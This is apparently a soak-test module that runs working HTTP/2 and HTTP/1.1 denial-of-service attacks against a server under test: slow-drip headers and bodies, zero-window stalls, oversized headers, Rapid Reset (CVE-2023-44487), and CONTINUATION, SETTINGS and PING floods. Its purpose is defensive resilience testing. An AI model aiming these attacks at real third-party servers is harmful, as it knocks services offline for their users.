"""Connections that mean harm, frame by frame (RFC 9113): nothing said, slowly said, too much said, nothing read.

`python -m tests.soak.abuse` takes on its standard input, as JSON, what to do to whom, and writes what became of it. It
is a process of its own that gives way to others: whoever attacks for real has a machine for that.
"""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import json
import os
import ssl
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL: Final = 8
INITIAL_WINDOW_SIZE: Final = 4
# What trickles: a byte every five seconds.
DRIP_SECONDS: Final = 5.0
LARGE: Final = 1_000_000
MANY: Final = 1_000
# The longest frame that a server takes which said nothing else.
FRAME_BYTES: Final = 16_384
STREAMS: Final = 100
# Handshakes at once.
OPENED_AT_ONCE: Final = 5
# How long after the last of a flood its end may come.
NOTICED_SECONDS: Final = 10.0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Returns the bytes of a frame."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def packed(*fields: tuple[str, str]) -> bytes:
    """Returns a block of header fields as HPACK has them (RFC 7541): literals, without an index."""

    def text(value: str) -> bytes:
        raw = value.encode()
        if len(raw) < 127:
            return bytes((len(raw),)) + raw
        left, size = len(raw) - 127, bytearray((127,))
        while left >= 128:
            size.append(left % 128 + 128)
            left //= 128
        return bytes(size) + bytes((left,)) + raw

    return b"".join(b"\x00" + text(name) + text(value) for name, value in fields)


@dataclass(frozen=True)
class Order:
    """What to do to whom."""

    kind: str
    host: str
    port: int
    ca_file: str
    name: str
    """The name that the server's certificate is for."""
    identity: str = ""
    """The directory of the certificate to show; empty: none."""
    count: int = 50
    """Connections at once; of a flood, what is sent in all."""
    seconds: float = 60.0
    """How long to wait for the server to end it, and how long a flood goes on at most."""
    path: str = "/v1/sessions:open"
    """What is asked for."""
    content_type: str = "application/json"
    protocol: str = "h2"
    token: str = ""


@dataclass
class Report:
    """What became of it."""

    opened: int = 0
    refused: int = 0
    ended: list[float] = field(default_factory=list)
    """After how many seconds the server ended a connection, or answered what it was asked."""
    open: int = 0
    """How many it had not ended when the time was over."""
    sent: int = 0
    seconds: float = 0.0
    frames: Counter[int] = field(default_factory=Counter)
    first: Counter[str] = field(default_factory=Counter)
    """How answers by HTTP/1.1 began."""


class Line:
    """One connection, and what came back on it."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, report: Report) -> None:
        self.reader = reader
        self.writer = writer
        self.report = report
        self.began = time.monotonic()
        self.over = asyncio.Event()
        self.resets = 0
        """After how many streams that are reset nothing is left."""

    def end(self) -> None:
        """Notes that the server had enough, once."""
        if not self.over.is_set():
            self.report.ended.append(round(time.monotonic() - self.began, 2))
            self.over.set()

    async def read(self, *, answers_end: bool) -> None:
        """Reads frames until the server ends the connection, or a stream where that is an end."""
        with contextlib.suppress(OSError, asyncio.IncompleteReadError, ssl.SSLError):
            while True:
                head = await self.reader.readexactly(9)
                await self.reader.readexactly(int.from_bytes(head[:3], "big"))
                kind = head[3]
                self.report.frames[kind] += 1
                if kind == PING and not head[4] & ACK:
                    self.writer.write(frame(PING, ACK, 0, bytes(8)))
                if answers_end and kind in {HEADERS, RST_STREAM, GOAWAY}:
                    break
                if kind == RST_STREAM and self.resets:
                    self.resets -= 1
                    if not self.resets:
                        break
        self.end()

    async def read_text(self) -> None:
        """Reads what comes back by HTTP/1.1, until the server ends the connection."""
        with contextlib.suppress(OSError, ssl.SSLError):
            first = await self.reader.read(64)
            self.report.first[first.split(b"\r\n")[0].decode(errors="replace")] += 1
            while await self.reader.read(65_536):
                pass
        self.end()

    async def send(self, data: bytes) -> bool:
        """Sends, and says whether anybody still takes it."""
        if self.over.is_set() or self.writer.is_closing():
            return False
        try:
            self.writer.write(data)
            await self.writer.drain()
            # What comes back has to be seen as well.
            await asyncio.sleep(0)
        except (OSError, ssl.SSLError, RuntimeError):
            self.end()
            return False
        return True

    async def drip(self, data: Callable[[int], bytes]) -> None:
        """Sends the parts that `data` gives by number, one every five seconds, for as long as somebody takes them."""
        number = 0
        while await self.send(data(number)):
            number += 1
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(self.over.wait(), DRIP_SECONDS)


class Attack:
    """One attack under way."""

    def __init__(self, order: Order) -> None:
        self.order = order
        self.report = Report()
        self.tasks: set[asyncio.Task[None]] = set()
        self.until = time.monotonic() + order.seconds
        # More handshakes at once would take longer than servers wait for one.
        self.opening = asyncio.Semaphore(OPENED_AT_ONCE)
        self.tls = ssl.create_default_context(cafile=order.ca_file)
        if order.identity:
            self.tls.load_cert_chain(Path(order.identity) / "tls.crt", Path(order.identity) / "tls.key")
        self.tls.set_alpn_protocols([order.protocol])

    async def run(self) -> Report:
        """Does it; returns what became of it."""
        began = time.monotonic()
        kind = self.order.kind
        if kind in FLOODS:
            await FLOODS[kind](self)
        else:
            lines = await asyncio.gather(*(self.line(LINES[kind]) for _ in range(self.order.count)))
            waiting: list[asyncio.Task[Any]] = [
                asyncio.create_task(line.over.wait()) for line in lines if line is not None
            ]
            if waiting:
                await asyncio.wait(waiting, timeout=max(0.0, self.until - time.monotonic()))
            self.report.open = sum(not task.done() for task in waiting)
            for task in waiting:
                task.cancel()
        self.report.seconds = round(time.monotonic() - began, 1)
        for task in self.tasks:
            task.cancel()
        return self.report

    async def line(self, act: Callable[[Attack, Line], Awaitable[None]]) -> Line | None:
        """Opens a connection and begins with it; None where the server takes none."""
        bare = act in BARE
        limit = 2**16
        try:
            async with self.opening:
                reader, writer = await asyncio.open_connection(
                    self.order.host,
                    self.order.port,
                    limit=limit,
                    ssl=None if bare else self.tls,
                    server_hostname=None if bare else self.order.name,
                    ssl_handshake_timeout=None if bare else 60.0,
                )
        except (OSError, ssl.SSLError, TimeoutError):
            self.report.refused += 1
            return None
        self.report.opened += 1
        found = Line(reader, writer, self.report)
        self.go(act(self, found))
        return found

    def go(self, work: Awaitable[None]) -> None:
        """Has work done beside."""

        async def done() -> None:
            await work

        task = asyncio.create_task(done())
        self.tasks.add(task)
        task.add_done_callback(self.tasks.discard)

    def asked(self, method: str = "POST", path: str = "", *more: tuple[str, str]) -> bytes:
        """Returns the header fields of a request."""
        return packed(
            (":method", method),
            (":scheme", "https"),
            (":authority", self.order.name),
            (":path", path or self.order.path),
            ("content-type", self.order.content_type),
            ("te", "trailers"),
            *([("authorization", f"Bearer {self.order.token}")] if self.order.token else []),
            *more,
        )

    @property
    def over(self) -> bool:
        """Whether enough was sent, or for long enough."""
        return self.report.sent >= self.order.count or time.monotonic() > self.until

    async def flood(self, act: Callable[[Line], Awaitable[None]], *, reads: bool = True) -> None:
        """Opens one connection after the other, each used by `act` until the server ends it or enough was sent."""
        while not self.over:

            async def begin(attack: Attack, line: Line) -> None:
                if reads:
                    attack.go(line.read(answers_end=False))

            line = await self.line(begin)
            if line is None:
                await asyncio.sleep(0.05)
                continue
            await line.send(PREFACE + frame(SETTINGS, 0, 0))
            line.began = time.monotonic()
            # Who takes no more and does not say so must not hold this up.
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(act(line), max(0.0, self.until - time.monotonic()))
            if not reads:
                # Only now, to see whether there is an end.
                self.go(line.read(answers_end=False))
            if not line.over.is_set():
                # The server may still be about to say so.
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(line.over.wait(), NOTICED_SECONDS)
            self.report.open += not line.over.is_set()
            line.writer.transport.abort()


async def nothing(attack: Attack, line: Line) -> None:
    """Says nothing at all."""
    with contextlib.suppress(OSError, ssl.SSLError):
        while await line.reader.read(65_536):
            pass
    line.end()


async def half_a_hello(attack: Attack, line: Line) -> None:
    """Begins with TLS, a byte every five seconds."""
    attack.go(nothing(attack, line))
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
    await line.drip(lambda number: hello if not number else b"\x00")


async def no_preface(attack: Attack, line: Line) -> None:
    """Says nothing once TLS stands."""
    await line.read(answers_end=False)


async def slow_headers_1(attack: Attack, line: Line) -> None:
    """Sends the headers of HTTP/1.1 byte by byte."""
    attack.go(line.read_text())
    text = f"GET {attack.order.path} HTTP/1.1\r\nHost: {attack.order.name}\r\nx-slow: "
    await line.drip(lambda number: text.encode() if not number else b"a")


async def slow_headers_2(attack: Attack, line: Line) -> None:
    """Sends the headers of HTTP/2 byte by byte."""
    attack.go(line.read(answers_end=True))
    # All but the value of the last field.
    block = attack.asked("GET", "", ("x-slow", "a" * 100))[:-100]
    begin = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_STREAM, 1, block)
    await line.drip(lambda number: begin if not number else frame(CONTINUATION, 0, 1, b"a"))


async def slow_body_1(attack: Attack, line: Line) -> None:
    """Sends the body of HTTP/1.1 byte by byte."""
    attack.go(line.read_text())
    order = attack.order
    token = f"authorization: Bearer {order.token}\r\n" if order.token else ""
    text = (
        f"POST {order.path} HTTP/1.1\r\nHost: {order.name}\r\n{token}"
        f"content-type: {order.content_type}\r\ncontent-length: 1000\r\n\r\n"
    )
    await line.drip(lambda number: text.encode() if not number else b"{" if number == 1 else b" ")


async def slow_body_2(attack: Attack, line: Line) -> None:
    """Sends the body of HTTP/2 byte by byte."""
    attack.go(line.read(answers_end=True))
    begin = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, attack.asked())
    await line.drip(lambda number: begin if not number else frame(DATA, 0, 1, b"{" if number == 1 else b" "))


async def slow_bodies(attack: Attack, line: Line) -> None:
    """Begins a hundred requests on each connection whose bodies never come."""
    attack.go(line.read(answers_end=True))
    await line.send(PREFACE + frame(SETTINGS, 0, 0))
    for number in range(STREAMS):
        if not await line.send(frame(HEADERS, END_HEADERS, 2 * number + 1, attack.asked())):
            return
        attack.report.sent += 1


async def window_0(attack: Attack, line: Line) -> None:
    """Asks for a hundred answers on each connection, and has no room for any of them."""
    # When all were reset the server has no more to do with them.
    line.resets = STREAMS
    attack.go(line.read(answers_end=False))
    none = INITIAL_WINDOW_SIZE.to_bytes(2, "big") + bytes(4)
    await line.send(PREFACE + frame(SETTINGS, 0, 0, none))
    for number in range(STREAMS):
        asked = attack.asked("GET")
        if not await line.send(frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, asked)):
            return
        attack.report.sent += 1


def split(block: bytes, stream: int, flags: int = 0) -> bytes:
    """Returns header fields as one HEADERS frame and as many of CONTINUATION as it takes."""
    parts = [block[at : at + FRAME_BYTES] for at in range(0, len(block), FRAME_BYTES)]
    last = len(parts) - 1
    return b"".join(
        frame(CONTINUATION if at else HEADERS, (END_HEADERS if at == last else 0) | (0 if at else flags), stream, part)
        for at, part in enumerate(parts)
    )


async def large_header(attack: Attack, line: Line) -> None:
    """Sends one header field of a megabyte."""
    attack.go(line.read(answers_end=True))
    block = attack.asked("GET", "", ("x-large", "a" * LARGE))
    await line.send(PREFACE + frame(SETTINGS, 0, 0) + split(block, 1, END_STREAM))


async def large_header_1(attack: Attack, line: Line) -> None:
    """Sends one header field of a megabyte by HTTP/1.1."""
    attack.go(line.read_text())
    await line.send(f"GET / HTTP/1.1\r\nHost: {attack.order.name}\r\nx-large: ".encode())
    await line.send(b"a" * LARGE)


async def many_headers(attack: Attack, line: Line) -> None:
    """Sends a thousand header fields."""
    attack.go(line.read(answers_end=True))
    block = attack.asked("GET", "", *((f"x-{number}", "a") for number in range(MANY)))
    await line.send(PREFACE + frame(SETTINGS, 0, 0) + split(block, 1, END_STREAM))


async def rapid_reset(attack: Attack) -> None:
    """Begins requests and takes each back at once (CVE-2023-44487)."""

    async def act(line: Line) -> None:
        stream = 1
        while not attack.over and stream < 2**31 - 201:
            burst = b"".join(
                frame(HEADERS, END_HEADERS | END_STREAM, stream + 2 * each, attack.asked("GET"))
                + frame(RST_STREAM, 0, stream + 2 * each, CANCEL.to_bytes(4, "big"))
                for each in range(STREAMS)
            )
            stream += 2 * STREAMS
            if not await line.send(burst):
                return
            attack.report.sent += STREAMS

    await attack.flood(act)


def flooded(of: Callable[[Attack], bytes], first: Callable[[Attack], bytes] | None = None) -> Any:
    """Returns a flood of frames, with what comes before them."""

    async def act(attack: Attack, *, reads: bool) -> None:
        many = of(attack) * STREAMS

        async def one(line: Line) -> None:
            if first is not None:
                await line.send(first(attack))
            while not attack.over and await line.send(many):
                attack.report.sent += STREAMS

        await attack.flood(one, reads=reads)

    return act


def begun(attack: Attack) -> bytes:
    """Returns a HEADERS frame after which more have to come."""
    return frame(HEADERS, END_STREAM, 1, attack.asked("GET"))


CONTINUATIONS: Final = flooded(lambda _: frame(CONTINUATION, 0, 1, packed(("x-more", "a" * 4_000))), begun)
EMPTY_CONTINUATIONS: Final = flooded(lambda _: frame(CONTINUATION, 0, 1), begun)
ALL_SETTINGS: Final = flooded(lambda _: frame(SETTINGS, 0, 0))
PINGS: Final = flooded(lambda _: frame(PING, 0, 0, bytes(8)))
LINES: Final[dict[str, Callable[[Attack, Line], Awaitable[None]]]] = {
    "silent": nothing,
    "half_a_hello": half_a_hello,
    "no_preface": no_preface,
    "slow_headers_1": slow_headers_1,
    "slow_headers_2": slow_headers_2,
    "slow_body_1": slow_body_1,
    "slow_body_2": slow_body_2,
    "slow_bodies": slow_bodies,
    "window_0": window_0,
    "large_header": large_header,
    "large_header_1": large_header_1,
    "many_headers": many_headers,
}
FLOODS: Final[dict[str, Callable[[Attack], Awaitable[None]]]] = {
    "rapid_reset": rapid_reset,
    "continuations": lambda attack: CONTINUATIONS(attack, reads=True),
    "empty_continuations": lambda attack: EMPTY_CONTINUATIONS(attack, reads=True),
    "settings": lambda attack: ALL_SETTINGS(attack, reads=True),
    "settings_unread": lambda attack: ALL_SETTINGS(attack, reads=False),
    "pings": lambda attack: PINGS(attack, reads=True),
    "pings_unread": lambda attack: PINGS(attack, reads=False),
}
BARE: Final = (nothing, half_a_hello)


async def abused(order: Order) -> Report:
    """Has a process of its own do it; returns what became of it."""
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "tests.soak.abuse", stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE
    )
    try:
        told, _ = await process.communicate(json.dumps(dataclasses.asdict(order)).encode())
    except BaseException:
        with contextlib.suppress(ProcessLookupError):
            process.kill()
        await process.wait()
        raise
    assert process.returncode == 0, f"{order.kind} ended with {process.returncode}"
    fields = json.loads(told)
    fields["frames"] = Counter({int(kind): count for kind, count in fields["frames"].items()})
    fields["first"] = Counter(fields["first"])
    return Report(**fields)


async def _main() -> None:
    os.nice(10)
    order = Order(**json.load(sys.stdin))
    report = await Attack(order).run()
    # Not `asdict`, which makes a Counter of pairs out of one.
    json.dump(vars(report), sys.stdout)


if __name__ == "__main__":
    asyncio.run(_main())
